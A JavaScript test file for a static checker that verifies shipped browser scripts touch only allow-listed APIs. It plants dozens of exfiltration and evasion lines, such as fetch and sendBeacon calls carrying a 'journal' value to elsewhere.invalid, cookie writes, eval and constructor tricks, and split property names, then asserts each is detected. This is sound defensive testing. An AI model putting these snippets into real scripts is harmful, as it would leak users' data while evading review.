// The scripts that are given away touch what their lists allow, and the check sees it when they touch more: every line here is planted in
// a built script, inside its own scope where there is one, and must be told.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { SCRIPTS, problemsOf, readListFile, readScriptFile } from '../../../pkg-scripts/check-scripts.mjs';
import { compare, readList, renewed, writeList } from '../../../pkg-scripts/source/list.mjs';
import { inventory } from '../../../pkg-scripts/source/inventory.mjs';
import { readScript, textOf } from '../../../pkg-scripts/source/tree.mjs';
import { keepEvidence } from '../evidence.mjs';

/** Lines that would send, load, or get hold of what does, each with what must be told of it. */
const PLANTED = {
  'fetch("https://elsewhere.invalid/?" + journal)': /not on the list: ways out: 1× fetch\(\)/,
  'new Image().src = "/pixel?" + journal': /new Image/,
  'navigator.sendBeacon("/b", journal)': /navigator\.sendBeacon\(\)/,
  'globalThis["fe" + "tch"]("/x")': /refused .*worked out/,
  'globalThis["fetch"]("/x")': /globalThis\.fetch\(\)/,
  'self[name]("/x")': /refused .*worked out/,
  'const { WebSocket: W } = self; new W("wss://elsewhere.invalid")': /self\.WebSocket/,
  'const { [name]: f } = self': /refused .*worked out/,
  'const scope = self; scope.XMLHttpRequest': /ways out: .*self in: /,
  'const n = navigator; n.vibrate(9)': /navigator in: /,
  'a.constructor.constructor("return fetch")()("/x")': /refused .*constructor/,
  '(() => {}).constructor("return fetch")()': /refused .*constructor/,
  'new Function("fetch(1)")()': /refused .*run as a script/,
  'eval("fetch(1)")': /refused .*run as a script/,
  '(0, eval)("fetch(1)")': /refused .*run as a script/,
  'setTimeout("fetch(1)", 5)': /refused .*run as a script/,
  'setTimeout(`fetch(${name})`, 5)': /refused .*run as a script/,
  'import("/x.js?" + journal)': /import\(\)/,
  'location.href = "/go?" + journal': /location\.href =/,
  'location = "/go"': /location =/,
  'open("/go?" + journal)': /open\(\)/,
  'new EventSource("/e?" + journal)': /new EventSource/,
  'new SharedWorker("/w.js")': /new SharedWorker/,
  'new RTCPeerConnection({ iceServers: [] })': /new RTCPeerConnection/,
  'new XMLHttpRequest().open("GET", "/x")': /new XMLHttpRequest/,
  'new FontFace("f", "url(/f?" + journal + ")").load()': /new FontFace/,
  'document.cookie = journal': /document\.cookie =/,
  'document.body.innerHTML = "<img src=/x>"': /document\.body\.innerHTML =/,
  'event.target.ownerDocument.defaultView.fetch("/x")': /\.defaultView/,
  'event.currentTarget[name]("/x")': /\.currentTarget/,
  'Reflect.get(self, name)("/x")': /self in: /,
  '(0, fetch)("/x?" + journal)': /fetch in: /,
  'self?.fetch?.("/x?" + journal)': /self\.fetch\(\)/,
  'class W extends Worker {}; new W("/w.js")': /Worker in: /,
  '(({ fetch: f }) => f("/x"))(self)': /self in: /,
  'for (const key in self) a = key': /self in: /,
  'event["fet" + "ch"]("/x")': /worked-out properties: 1× _\["fet" \+ "ch"\]/,
  'Object.assign(a, { src: "/x?" + journal })': /\{src:\} in: /,
  'queueMicrotask.call.call(name)': /queueMicrotask\.call/,
};

/** Lines for one script: the pictures and links of the elements, the place where the client fetches, the worker's own seal. */
const OWN = {
  'worker.js': {
    'importScripts("/x.js?" + journal)': /importScripts\(\)/,
    'caches.open("c").then((c) => c.add("/x?" + journal))': /caches\.open\(\)/,
    'fetch("data:,")': /not on the list: ways out: 1× fetch\(\)/,
    'a((address) => fetch(address))': /fetch\(\) in: \(a\) => fetch\(a\)/,
    'self.registration.showNotification(journal)': /self\.registration\.showNotification\(\)/,
    'this.fetch("/x")': /refused .*the global object/,
  },
  'homebody.js': {
    'fetch(journal)': /fetch\(\)/,
    'indexedDB.open("homebody")': /indexedDB\.open\(\)/,
    'document.createElement("img")': /document\.createElement\(\)/,
    'export { x } from "/elsewhere.js"': /refused .*another/,
    'import "/elsewhere.js"': /refused .*another/,
  },
  'elements.js': {
    'a.src = "/x?" + journal': /\.src = in/,
    'a.style.backgroundImage = "url(/x)"': /backgroundImage =/,
    'a.insertAdjacentHTML("beforeend", journal)': /insertAdjacentHTML/,
    'a`<link rel="prefetch" href="${journal}">`': /<link href="☐">/,
    'a`<img src="${journal}" srcset="${b} 2x">`': /<img srcset="☐ 2x">/,
    'a`<a href="${journal}" ping="/p">`': /<a ping="\/p">/,
    'a`<img .src=${journal}>`': /<img \.src="☐">/,
    'a`<iframe>`': /<iframe>/,
    'a`.x{background:url(/x)}`': /styles: url\(/,
    'a = "https://elsewhere.invalid/p.gif"': /addresses: https:\/\/elsewhere\.invalid/,
    'localStorage.setItem("k", journal)': /localStorage\.setItem\(\)/,
  },
};

/** What is planted in a script: the general lines and its own; what is loaded beside the elements is as they are. */
const plantedIn = ({ name }) => ({ ...PLANTED, ...(OWN[name] ?? OWN['elements.js']) });

/** The script with a line in it: where others' names are none of its own, so that none is declared twice. */
function withLine({ sourceType }, source, line) {
  if (/^(import|export) /.test(line)) return `${line};${source}`;
  const start = sourceType === 'script' ? '"use strict";(()=>{' : '';
  assert.ok(source.startsWith(start));
  return `${start}((journal, name, event, a, b) => { ${line}; })();${source.slice(start.length)}`;
}

for (const script of SCRIPTS) {
  describe(`what ${script.name} may touch`, () => {
    const source = readScriptFile(script);
    const planted = Object.entries(plantedIn(script));

    it('is what it touches', () => assert.deepEqual(problemsOf(script), []));

    for (const [line, told] of planted) {
      it(`does not hold: ${line}`, () => assert.match(problemsOf(script, withLine(script, source, line)).join('\n'), told));
    }

    it('is told of what is no longer there, and of what nobody has said the use of', () => {
      const list = readListFile(script);
      const more = { ...list, blocks: [...list.blocks, { section: 'globals', reason: 'for nothing', entries: ['new OffscreenCanvas'] }] };
      assert.match(problemsOf(script, source, more).join('\n'), /on the list and not there: globals: new OffscreenCanvas/);
      if (list.blocks.length === 0) return; // a script that touches nothing
      const unsaid = { ...list, blocks: list.blocks.map((block, at) => (at ? block : { ...block, reason: '?' })) };
      assert.match(problemsOf(script, source, unsaid).join('\n'), /not what it is for/);
    });

    it('does not change when a minifier chooses other names', () => {
      const tree = readScript(source, script.sourceType);
      const renamed = textOf(tree, tree.ast, (at) => `renamed${at}`);
      assert.notEqual(renamed, source);
      assert.deepEqual(compare(inventory(renamed, script.sourceType), readListFile(script)), []);
    });

    it('is written anew without losing what was said', () => {
      const list = readListFile(script);
      const text = writeList(list);
      assert.deepEqual(readList(text), readList(writeList(readList(text))));
      const again = renewed(inventory(withLine(script, source, 'fetch("/x")'), script.sourceType), list);
      const unsaid = again.blocks.filter(({ reason }) => reason === '?').flatMap(({ entries }) => entries);
      assert.ok(unsaid.some((entry) => entry.includes('fetch()')), unsaid.join('\n'));
      assert.equal(writeList({ ...again, blocks: again.blocks.filter(({ reason }) => reason !== '?') }), writeList(list));
    });
  });
}

describe('the shipped scripts', () => {
  it('leave the stored journal to the worker alone', () => {
    // `cookieConsent` is a consent tool's name, and how an adapter is called.
    const storage = /\b(indexedDB|IDB\w*|localStorage|sessionStorage|caches|cookie(?!Consent\b)\w*|storage\.getDirectory)\b/;
    for (const script of SCRIPTS.filter(({ name }) => name !== 'worker.js')) {
      const found = inventory(readScriptFile(script), script.sourceType);
      const touched = Object.values(found.entries).flatMap((entries) => [...entries.keys()]).filter((entry) => storage.test(entry));
      assert.deepEqual(touched, [], script.name);
    }
  });

  it('are kept for the report', () => {
    const scripts = SCRIPTS.map((script) => ({
      script: script.name, list: script.list, planted: Object.keys(plantedIn(script)), allowed: readListFile(script).blocks,
    }));
    const lines = scripts.reduce((sum, { planted }) => sum + planted.length, 0);
    const summary = `The ${scripts.length} scripts touch what their lists allow and nothing else; ${lines} planted lines were all told.`;
    keepEvidence('scripts', null, { summary, scripts });
  });
});
